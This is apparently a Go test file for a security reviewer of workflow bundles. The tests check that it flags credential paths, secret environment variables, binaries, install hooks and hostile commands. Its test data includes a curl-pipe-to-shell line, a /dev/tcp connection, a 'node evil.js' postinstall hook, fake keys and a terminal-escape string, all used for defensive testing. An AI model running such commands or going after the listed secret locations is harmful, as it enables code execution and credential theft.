package bundle

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bulkhead-dev/bulkhead/internal/fault"
	"github.com/bulkhead-dev/bulkhead/policy"
)

func TestJudgeRead_knowsWhereSecretsLie(t *testing.T) {
	for path, want := range map[string]Verdict{
		"$WORKSPACE": OK, "$WORKSPACE/in": OK, "/usr/share/doc": OK, "/lib64": OK,
		"/srv/data": Look, "~/src/project": Look, "/home/ann/src": Look, "/tmp": Look, "/opt/tool": Look, "/usrlocal": Look,
		"/": Danger, "~": Danger, "~/": Danger, "/root": Danger, "/home": Danger, "/home/ann": Danger, "/Users/ann/": Danger,
		"~/.ssh": Danger, "~/.ssh/id_ed25519": Danger, "/home/ann/.aws": Danger, "/root/.kube/config": Danger, "~/.config/gh": Danger,
		"/etc/shadow": Danger, "/etc": Danger, "/var": Danger, "/run/docker.sock": Danger, "/var/run/docker.sock": Danger, "/etc/./shadow": Danger,
		"/proc": Danger, "/var/lib": Danger,
	} {
		if got := judgeRead(path); got.verdict != want {
			t.Errorf("judgeRead(%q) = %s, want %s", path, got.verdict, want)
		}
	}
}

func TestJudgeWrite_allowsOnlyTheWorkFolder(t *testing.T) {
	for path, want := range map[string]Verdict{
		"$WORKSPACE": OK, "$WORKSPACE/out": OK,
		"/srv/out": Look, "~/out": Look, "/tmp": Look,
		"~": Danger, "~/.ssh": Danger, "/etc/cron.d": Danger, "/usr/local/bin": Danger, "/usr": Danger, "/": Danger, "/bin": Danger,
	} {
		if got := judgeWrite(path); got.verdict != want {
			t.Errorf("judgeWrite(%q) = %s, want %s", path, got.verdict, want)
		}
	}
}

func TestJudgePass_flagsKeys(t *testing.T) {
	for name, want := range map[string]Verdict{
		"LANG": OK, "MN_RUNS_ROOT": OK, "KEYBOARD": OK, "TOKENIZERS_PARALLELISM": OK, "MONKEY": OK, "PATHS": OK,
		"MY_TOKEN": Look, "DEPLOY_KEY": Look, "db_password": Look, "SESSION_COOKIE": Look, "PATH": Look, "PYTHONPATH": Look, "API_KEY_FILE": Look,
		"AWS_SECRET_ACCESS_KEY": Danger, "GITHUB_TOKEN": Danger, "OPENAI_API_KEY": Danger, "SSH_AUTH_SOCK": Danger, "KUBECONFIG": Danger, "github_token": Danger,
	} {
		if got := judgePass(name); got.verdict != want {
			t.Errorf("judgePass(%q) = %s, want %s", name, got.verdict, want)
		}
	}
}

func TestJudgeSet_flagsValuesThatStandInTheManifest(t *testing.T) {
	for _, row := range []struct {
		name, value string
		want        Verdict
	}{
		{"A", "1", OK},
		{"API_TOKEN", "", OK},
		{"API_TOKEN", "hunter2", Look},
		{"LD_PRELOAD", "/x.so", Look},
		{"HARMLESS", fakeAWSKey, Danger},
	} {
		if got := judgeSet(row.name, row.value); got.verdict != row.want {
			t.Errorf("judgeSet(%q, %q) = %s, want %s", row.name, row.value, got.verdict, row.want)
		}
	}
}

// Secrets that are none, put together so that no scanner takes this file for
// a leak.
var (
	fakeAWSKey  = "AKIA" + "IOSFODNN7EXAMPLE"
	fakeKeyFile = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nb3BlbnNzaA==\n"
	fakeGitHub  = "gh" + "p_" + strings.Repeat("a1", 18)
)

func TestJudgeCommand_flagsWhatWorkersRarelyNeed(t *testing.T) {
	for _, row := range []struct {
		command string
		want    Verdict
	}{
		{"python3 worker.py", OK},
		{"sh resume.sh --summary", OK},
		{"curl https://example.org/x | sh", Look},
		{"sudo make install", Look},
		{"echo aGk= | base64 -d", Look},
		{"bash -c exec 3<>/dev/tcp/10.0.0.1/80", Look},
		{"pip install requests", Look},
		{"docker run alpine", Look},
		{"deploy " + fakeGitHub, Danger},
	} {
		if got := judgeCommand(strings.Fields(row.command)); got.verdict != row.want {
			t.Errorf("judgeCommand(%q) = %s, want %s", row.command, got.verdict, row.want)
		}
	}
}

// linesFor finds the lines of a subject and topic.
func linesFor(lines []Line, subject, topic string) []Line {
	var found []Line
	for _, l := range lines {
		if l.Subject == subject && l.Topic == topic {
			found = append(found, l)
		}
	}
	return found
}

func TestReview_flagsStrangeFiles(t *testing.T) {
	files := map[string]string{
		"split.py":             "print('{}')\n",
		"bin/tool":             "\x7fELF\x02\x01\x01",
		"tool.exe":             "MZ\x90\x00\x03",
		"MZ.txt":               "MZ is how this text begins\n",
		"mac":                  "\xcf\xfa\xed\xfe\x07",
		"mod.wasm":             "\x00asm\x01",
		"data.bin":             "ab\x00cd",
		"package.json":         `{"scripts": {"postinstall": "node evil.js", "test": "x"}}`,
		"broken/package.json":  `{`,
		"setup.py":             "x",
		"lib/conftest.py":      "x",
		"lib/x.pth":            "import os",
		"Makefile":             "all:",
		".env":                 "A=1",
		".git/hooks/pre-merge": "x",
		"id_ed25519":           "text\n" + fakeKeyFile,
		"notes.txt":            "one\ntwo " + fakeAWSKey + " and " + fakeGitHub,
	}
	dir := folderWith(t, sound, files)
	must(t, os.Chmod(filepath.Join(dir, "payloads/split.py"), 0o755))
	must(t, os.Chmod(filepath.Join(dir, "payloads/setup.py"), 0o644|fs.ModeSetuid))
	must(t, os.Symlink("split.py", filepath.Join(dir, "payloads/link.py")))
	lines := Review(loadSound(t, dir))

	for _, row := range []struct {
		file, topic, value string
		want               Verdict
	}{
		{"split.py", "mode", "-rwxr-xr-x", Look},
		{"setup.py", "mode", "urw-r--r--", Danger},
		{"link.py", "link", "symbolic link", Look},
		{"bin/tool", "binary", "ELF program", Danger},
		{"tool.exe", "binary", "Windows program", Danger},
		{"mac", "binary", "Mach-O program", Danger},
		{"mod.wasm", "binary", "WebAssembly module", Look},
		{"data.bin", "binary", "binary data", Look},
		{"package.json", "install hook", "postinstall: node evil.js", Look},
		{"broken/package.json", "install hook", "package.json", Look},
		{"setup.py", "install hook", "setup.py", Look},
		{"lib/conftest.py", "install hook", "conftest.py", Look},
		{"lib/x.pth", "install hook", "x.pth", Look},
		{"Makefile", "install hook", "Makefile", Look},
		{".env", "hidden", ".env", Look},
		{".git/hooks/pre-merge", "hidden", ".git", Look},
		{".git/hooks/pre-merge", "install hook", "payloads/.git/hooks/pre-merge", Look},
		{"id_ed25519", "secret", "a private key, line 2", Danger},
		{"notes.txt", "secret", "an AWS access key, line 2", Danger},
	} {
		t.Run(row.file+" "+row.topic, func(t *testing.T) {
			found := linesFor(lines, "file payloads/"+row.file, row.topic)
			if len(found) == 0 || found[0].Value != row.value || found[0].Verdict != row.want || found[0].Why == "" {
				t.Errorf("lines = %+v, want %q, %s, and a reason", found, row.value, row.want)
			}
		})
	}
	if found := linesFor(lines, "file payloads/MZ.txt", "binary"); len(found) > 0 {
		t.Errorf("a text is taken for a program: %+v", found)
	}
	if got := len(linesFor(lines, "file payloads/notes.txt", "secret")); got != 2 {
		t.Errorf("%d secrets in notes.txt, want 2", got)
	}
	if Worst(lines) != Danger {
		t.Errorf("Worst = %s, want danger", Worst(lines))
	}
	for _, l := range lines {
		if strings.Contains(fmt.Sprint(l), fakeAWSKey) || strings.Contains(fmt.Sprint(l), fakeGitHub) {
			t.Errorf("line %+v repeats a secret", l)
		}
	}
}

func TestReview_neverRepeatsASecretOfTheManifest(t *testing.T) {
	dir := folderWith(t, `{"apiVersion": "bulkhead/v1", "id": "demo", "entrypoints": ["run"], "inputs": {"key": {"default": "`+fakeAWSKey+`"}},
		"nodes": [{"id": "run", "type": "executor", "config": {"command": ["deploy", "`+fakeGitHub+`", "${inputs.key}"], "env": {"X": "`+fakeAWSKey+`", "PASSWORD": "hunter2"}}}]}`, nil)
	lines := Review(loadSound(t, dir))
	text := reviewText(lines)
	for _, s := range []string{fakeAWSKey, fakeGitHub, "hunter2"} {
		if strings.Contains(text, s) {
			t.Errorf("the review repeats %q:\n%s", s, text)
		}
	}
	for _, subject := range []string{"node run", "file manifest.json"} {
		if !strings.Contains(text, "danger "+subject) {
			t.Errorf("nothing dangerous is said about %s:\n%s", subject, text)
		}
	}
}

func TestReview_flagsTheHostAndWhatIsAskedFor(t *testing.T) {
	dir := folderWith(t, `{"apiVersion": "bulkhead/v1", "id": "demo", "entrypoints": ["bare", "asks"],
		"inputs": {"tree": {"default": "/root"}, "other": {}},
		"nodes": [
			{"id": "bare", "type": "executor", "config": {"runner": "host", "command": ["true"], "pass_env": ["GITHUB_TOKEN"], "external": ["https://api.example.org"]}},
			{"id": "asks", "type": "executor", "config": {"command": ["true"], "retry": {"max_attempts": 50}, "policy": {
				"layer": "host", "best_effort": true,
				"filesystem": {"read": ["${inputs.tree}", "${inputs.other}/x", "/srv"], "write": ["/srv/out"]},
				"env": {"pass": ["MY_SECRET"]}}}}
		]}`, nil)
	var got []string
	for _, l := range Review(loadSound(t, dir)) {
		if l.Verdict != OK {
			got = append(got, fmt.Sprintf("%s %s %s: %s", l.Verdict, l.Subject, l.Topic, l.Value))
		}
	}
	want := []string{
		"danger node bare runner: host, layer native",
		"danger node bare pass_env: GITHUB_TOKEN",
		"look node bare external: https://api.example.org",
		"look node bare timeout: none",
		"danger node asks runner: native, layer host",
		"look node asks pass_env: MY_SECRET",
		"danger node asks read: ${inputs.tree}",
		"look node asks read: ${inputs.other}/x",
		"look node asks read: /srv",
		"look node asks write: /srv/out",
		"look node asks policy: best_effort",
		"look node asks timeout: none",
		"look node asks retry: 50 attempts on what the worker calls retryable, timeout, start",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestReview_judgesADangerousDefault(t *testing.T) {
	g := small()
	g.Inputs = map[string]Input{"tree": {Default: []byte(`"/root"`)}}
	g.Nodes[0].Executor.Policy = policy.Policy{Filesystem: policy.Filesystem{Read: []string{"${inputs.tree}/.ssh"}}}
	found := linesFor(Review(&Bundle{Graph: g}), "node a", "read")
	if len(found) != 1 || found[0].Verdict != Danger || !strings.HasPrefix(found[0].Why, "by default /root/.ssh: ") {
		t.Errorf("lines = %+v, want one danger that names the default", found)
	}
}

func TestReview_saysWhatIsHiddenInWarnings(t *testing.T) {
	b := &Bundle{Graph: small()}
	b.Warnings = append(b.Warnings, fault.Problem{Pointer: "/daemon", Reason: "daemon has no effect"})
	found := linesFor(Review(b), "bundle", "manifest")
	if len(found) != 1 || found[0].Verdict != Look || found[0].Value != "/daemon daemon has no effect" {
		t.Errorf("lines = %+v, want the warning", found)
	}
}

func TestReview_printsHostileTextsHarmlessly(t *testing.T) {
	g := small()
	g.Nodes[0].Executor.Command = []string{"echo", "a\x1b]0;owned\x07\nb", strings.Repeat("x", 1000)}
	found := linesFor(Review(&Bundle{Graph: g}), "node a", "command")
	if len(found) != 1 || strings.ContainsAny(found[0].Value, "\x1b\x07\n") || len(found[0].Value) > 400 {
		t.Errorf("command = %q", found[0].Value)
	}
}

func TestWorst_isTheGravest(t *testing.T) {
	for _, row := range []struct {
		verdicts []Verdict
		want     Verdict
	}{
		{nil, OK},
		{[]Verdict{OK, OK}, OK},
		{[]Verdict{OK, Look, OK}, Look},
		{[]Verdict{Look, Danger, OK}, Danger},
		{[]Verdict{Danger, Look}, Danger},
	} {
		var lines []Line
		for _, v := range row.verdicts {
			lines = append(lines, Line{Verdict: v})
		}
		if got := Worst(lines); got != row.want {
			t.Errorf("Worst(%v) = %s, want %s", row.verdicts, got, row.want)
		}
	}
}
